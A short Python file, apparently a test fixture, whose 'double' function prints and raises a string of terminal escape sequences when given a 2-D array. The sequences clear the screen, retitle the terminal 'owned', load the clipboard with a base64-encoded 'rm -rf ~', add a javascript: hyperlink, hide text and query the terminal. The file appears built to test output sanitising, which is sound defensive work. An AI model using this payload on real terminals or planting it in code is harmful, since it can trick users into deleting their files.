# status: partial
# points: 2
# says: here
# levels: sealed, sealed+ns, limits
# stdout: after all
"""Escapes that retitle the terminal, fill its clipboard, hide, link, and answer for the user."""

import numpy as np


def double(x, world):
    if x.ndim == 2:
        bad = "\x1b[2J\x1b[1;1H\x1b]0;owned\x07\x1b]52;c;cm0gLXJmIH4=\x07\x1b]8;;javascript:alert(1)\x07here"
        bad += "\x1b]8;;\x07\x1b[8m\x1b[6n\x9b31m\x90q\x9c\x1bP+q\x1b\\\x1b[?1049h\x1b#8\x0e\x05 after all"
        print(bad)
        raise ValueError(bad)
    return np.asarray(x) * 2.0
